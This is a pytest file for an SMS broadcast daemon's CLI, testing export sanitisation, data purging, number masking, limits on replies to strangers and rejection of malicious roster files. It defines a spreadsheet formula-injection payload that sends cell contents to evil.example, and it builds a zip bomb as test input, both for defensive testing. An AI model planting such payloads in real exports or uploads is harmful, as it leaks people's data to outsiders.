"""Issue 13: let no one in, leave nothing behind. Exports, purge, masking, strangers, rosters,
install steps and check-config, each through the CLI as an admin would use it."""

from __future__ import annotations

import csv
import io
import json
import os
import zipfile
from datetime import datetime, timedelta, timezone

import openpyxl
import pytest
from click.testing import CliRunner

from smsd import broadcast, config, roster
from smsd.cli import main
from smsd.dispatch import Dispatcher
from smsd.errors import InputError
from smsd.roster import MemberRow
from smsd.store import Store
from tests.conftest import write_config
from tests.conversation import Conversation
from tests.sql import one as sql_one
from tests.sql import rows as sql_rows
from tests.test_ledger import send_all

CST = timezone(timedelta(hours=8))
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def cli(config_path, *args):
    return CliRunner().invoke(main, [*args, "--config", str(config_path)])


@pytest.fixture
def office(tmp_path):
    path = write_config(tmp_path, {"m1": "emulator"})
    cfg = config.load(path)
    with Store(cfg.database) as s:
        s.members.upsert(
            [
                MemberRow(2, EVIL, "+8613800000001", "大渡口区/八桥镇", ["党员"], "2001-07-01"),
                MemberRow(3, "李四", "+8613800000002", "大渡口区/八桥镇", ["党员"], None),
            ]
        )
    return tmp_path, path, cfg


# ------------------------------------------------------------------ item 6: exports


def test_no_export_carries_a_live_formula(office):
    tmp_path, path, cfg = office
    now = datetime.now(CST)
    with Store(cfg.database) as s:
        plan = broadcast.plan(s, cfg, orgs=("大渡口区/八桥镇",), text="${name}同志：请参加会议", now=now)
        broadcast.queue(s, plan, name="会议", now=now)
        send_all(s, {"m1": 6}, now)
        s.red.open("红段子征集", 140, "test")
        poll = s.polls.create(
            "同意吗？",
            ["+1 同意", "@反对"],
            [m.id for m in s.members.select()],
            opens=now - timedelta(hours=1),
            closes=now + timedelta(days=1),
            policy="first",
            announce=False,
            audience={},
            actor="test",
        )
        d = Dispatcher(s, cfg)
        Conversation(s, d).member_says("+8613800000002", f"HDZ {EVIL}")
        red = sql_rows(s, "SELECT id FROM red_submissions")[0]["id"]
        s.red.review(red, True, "", "test")
    assert cli(path, "report", "messages", "--csv", "--output", str(tmp_path / "m.csv")).exit_code == 0
    assert cli(path, "report", "messages", "--xlsx", "--output", str(tmp_path / "m.xlsx")).exit_code == 0
    assert cli(path, "red", "export", "--output", str(tmp_path / "red.csv")).exit_code == 0
    assert cli(path, "members", "export", str(tmp_path / "roster.xlsx")).exit_code == 0
    roster = openpyxl.load_workbook(tmp_path / "roster.xlsx").active
    names = [c for row in roster.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")]
    assert names and all(c.data_type == "s" for c in names)  # a member named =HYPERLINK(...) stays a name
    poll_csv = cli(path, "poll", "results", str(poll), "--csv").output

    cells = []
    for name in ("m.csv", "red.csv"):
        cells += [c for row in csv.reader(io.StringIO((tmp_path / name).read_text("utf-8-sig"))) for c in row]
    cells += [c for row in csv.reader(io.StringIO(poll_csv)) for c in row]
    assert any(EVIL in c for c in cells)  # the text is there, as text
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    ws = openpyxl.load_workbook(tmp_path / "m.xlsx").active
    texts = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(c.value.startswith("=HYPERLINK") for c in texts)
    assert all(c.data_type == "s" for c in texts)  # stored as text: never evaluated


# ------------------------------------------------------------------ item 7: purge


def test_after_purge_no_number_or_text_is_left_in_the_file_or_its_wal(office):
    tmp_path, path, cfg = office
    old = datetime.now(CST) - timedelta(days=400)
    numbers = ["+8613812345671", "+8613812345672"]
    texts = ["机密通知：周五开会讨论人事安排", "请于明日到组织部报到"]
    with Store(cfg.database) as s:
        s.members.upsert([MemberRow(4, "王五", numbers[0], "大渡口区", [], None)])  # removed before the purge
        s.red.open("征集", 140, "test")
        d = Dispatcher(s, cfg, clock=lambda: old)
        for n, t in zip(numbers, texts, strict=True):
            s.outbox.enqueue(n, t, now=old, dedup_key=f"campaign:9:{n}")
        send_all(s, {"m1": 6}, old)
        for part in sql_rows(s, "SELECT message_id, seq, provider_ref, modem FROM outbox_parts"):
            s.reports.apply_report(
                "m1",
                part["provider_ref"],
                numbers[0] if part["message_id"] == 1 else numbers[1],
                0,
                "delivered",
                now=old,
            )
        Conversation(s, d).member_says(numbers[0], "HDZ 红旗漫卷西风，党的光辉照四方")
        Conversation(s, d).member_says(numbers[1], "我想反映村里的道路问题")
        send_all(s, {"m1": 6}, old)  # the replies went out too
    assert cli(path, "members", "remove", numbers[0][3:]).exit_code == 0  # left the roster since
    result = cli(path, "purge", "--older-than", "180d", "--yes")
    assert result.exit_code == 0, result.output
    blob = b"".join(p.read_bytes() for p in tmp_path.glob("smsd.db*") if p.is_file())
    secrets = [*numbers, *(n[3:] for n in numbers), *texts, "红旗漫卷西风", "道路问题"]
    found = [x for x in secrets if x.encode() in blob or x.encode("utf-16-be") in blob]
    assert not found, f"still in the database or its WAL after purge: {found}"
    with Store(cfg.database) as s:
        assert s.ledger.sum() > 0  # the cost record stays
        # who got which message is gone too (a campaign's messages named the member)
        assert sql_one(s, "SELECT COUNT(*) AS n FROM outbox WHERE member_id IS NOT NULL")["n"] == 0


def test_purge_older_than_0d_takes_everything_already_sent(office):
    tmp_path, path, cfg = office
    with Store(cfg.database) as s:
        s.outbox.enqueue("+8613812345679", "刚发的通知")
        send_all(s, {"m1": 6}, datetime.now(CST))
        waiting = s.outbox.enqueue("+8613812345678", "还在排队")
    result = cli(path, "purge", "--older-than", "0d", "--yes")
    assert result.exit_code == 0, result.output
    with Store(cfg.database) as s:
        texts = {m.text for m in s.outbox.messages(limit=10)}
        assert texts == {"[purged]", "还在排队"} and s.outbox.message(waiting).text == "还在排队"


def test_exports_are_0640_whatever_the_umask(office):
    tmp_path, path, cfg = office
    old = os.umask(0o022)
    try:
        (tmp_path / "old.csv").write_text("x")
        os.chmod(tmp_path / "old.csv", 0o666)
        outputs = {
            "old.csv": ["report", "messages", "--csv", "--output", str(tmp_path / "old.csv")],
            "c.xlsx": ["report", "cost", "--xlsx", "--output", str(tmp_path / "c.xlsx")],
            "r.xlsx": ["members", "export", str(tmp_path / "r.xlsx")],
            "red.csv": ["red", "export", "--output", str(tmp_path / "red.csv")],
        }
        for name, args in outputs.items():
            result = cli(path, *args)
            assert result.exit_code == 0, (name, result.output)
            assert (tmp_path / name).stat().st_mode & 0o777 == 0o640, name
    finally:
        os.umask(old)


# ------------------------------------------------------------------ item 8: masking


def test_numbers_are_masked_everywhere_unless_unmask(office):
    _, path, cfg = office
    with Store(cfg.database) as s:
        mid = s.outbox.enqueue("+8613800000001", "x")
        Conversation(s, Dispatcher(s, cfg)).member_says("+8613800000002", "你好")
    for args in (
        ["outbox", "--json"],
        ["outbox", "show", str(mid)],
        ["outbox", "show", str(mid), "--json"],
        ["inbox", "--json"],
        ["members", "show", "13800000001"],
        ["members", "show", "13800000001", "--json"],
    ):
        out = cli(path, *args)
        assert out.exit_code == 0, (args, out.output)
        assert "13800000001" not in out.output and "13800000002" not in out.output, args
        assert "****" in out.output, args
    assert "13800000001" in cli(path, "outbox", "show", str(mid), "--unmask").output


# ------------------------------------------------------------------ item 9: strangers and abroad


def test_replies_to_strangers_have_a_global_cap_and_nobody_abroad_is_answered(office):
    _, path, cfg = office
    with Store(cfg.database) as s:
        d = Dispatcher(s, cfg)
        conv = Conversation(s, d)
        for i in range(cfg.commands.stranger_replies_per_hour + 10):
            conv.member_says(f"+8613900{i:06d}", "帮助")
        conv.member_says("+447700900123", "帮助")
        conv.member_says("+16502530000", "TD")
        replies = sql_rows(s, "SELECT to_number FROM outbox WHERE created_by = 'dispatcher'")
    assert len(replies) == cfg.commands.stranger_replies_per_hour
    assert all(r["to_number"].startswith("+86") for r in replies)


# ------------------------------------------------------------------ item 12: rosters


def test_a_huge_csv_cell_is_a_one_line_refusal(tmp_path):
    p = tmp_path / "r.csv"
    p.write_text("姓名,手机\n" + "张" * (20 * 1024 * 1024 // 3) + ",13800000001\n", encoding="utf-8")
    with pytest.raises(InputError, match="longer than"):
        roster.read(p)


def test_an_xlsx_with_a_far_away_cell_is_refused_without_filling_memory(tmp_path):
    p = tmp_path / "far.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["姓名", "手机"])
    ws.append(["张三", "13800000001"])
    ws["XFD1048576"] = "x"
    wb.save(p)
    assert p.stat().st_size < 10_000
    with pytest.raises(InputError, match="claims 1048576 rows"):
        roster.read(p)


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path):
    p = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/worksheets/sheet1.xml", "<a>" + " " * (300 * 1024 * 1024) + "</a>")
    with pytest.raises(InputError, match="refused as unsafe"):
        roster.read(p)


def test_a_csv_renamed_xlsx_says_so(tmp_path):
    p = tmp_path / "really.xlsx"
    p.write_text("姓名,手机\n张三,13800000001\n", encoding="utf-8")
    with pytest.raises(InputError, match="a CSV \\(text\\) file named .xlsx"):
        roster.read(p)


# ------------------------------------------------------------------ items 5 and 11: install and check-config


def test_check_config_warns_about_a_public_host(tmp_path):
    path = write_config(tmp_path, {"m1": "emulator"}, http={"enabled": True, "host": "0.0.0.0"})
    out = cli(path, "check-config")
    assert out.exit_code == 0 and "warning: [http] host = '0.0.0.0'" in out.output and "TLS" in out.output


def test_readme_install_steps_on_a_scratch_root_answer_help(tmp_path, daemon, make_emulator):
    """Acceptance 3: the config copied elsewhere, the templates not copied: members still get answers."""
    from tests.conftest import ROOT

    etc = tmp_path / "etc" / "smsd"
    etc.mkdir(parents=True)
    emu = make_emulator()
    text = (ROOT / "config.toml").read_text()
    text = text.replace('database = "run/smsd.db"', f'database = "{tmp_path}/var/smsd.db"')
    text = text.replace('port = "emulator"', f'port = "{emu["m1"].link}"', 1)
    text = text.replace('[modems.m2]\nport = "emulator"', '[modems.m2]\nenabled = false\nport = "emulator"')
    text = text.replace('quiet_hours = "21:00-08:00"', 'quiet_hours = ""')
    (etc / "config.toml").write_text(text)
    assert cli(etc / "config.toml", "check-config").exit_code == 0
    d = daemon(etc / "config.toml")
    emu["m1"].deliver("+8613900000009", "帮助")
    from tests.conftest import wait_for

    def answered():
        log = emu["m1"].sent_log
        return log.exists() and any("TD" in json.loads(x)["text"] for x in log.read_text().splitlines())

    wait_for(answered, timeout=30, interval=0.1)
    assert d.terminate() == 0


def test_a_missing_templates_folder_stops_the_daemon_with_one_line(tmp_path):
    path = write_config(tmp_path, {"m1": "emulator"}, daemon={"templates_dir": "nowhere"})
    import subprocess
    import sys

    run = subprocess.run(
        [sys.executable, "-m", "smsd", "run", "--config", str(path)], capture_output=True, text=True, timeout=60
    )
    assert run.returncode == 1 and run.stderr.count("\n") == 1 and "templates_dir 'nowhere'" in run.stderr


def test_without_config_flag_an_installed_box_reads_etc_smsd(tmp_path, monkeypatch):
    system = write_config(tmp_path, {"m1": "emulator"})
    monkeypatch.delenv("SMSD_CONFIG", raising=False)
    monkeypatch.setattr(config, "SYSTEM_PATH", str(system))
    monkeypatch.chdir(tmp_path.parent)
    assert config.config_path(None) == system
    monkeypatch.setattr(config, "SYSTEM_PATH", str(tmp_path / "absent.toml"))
    assert str(config.config_path(None)) == "config.toml"
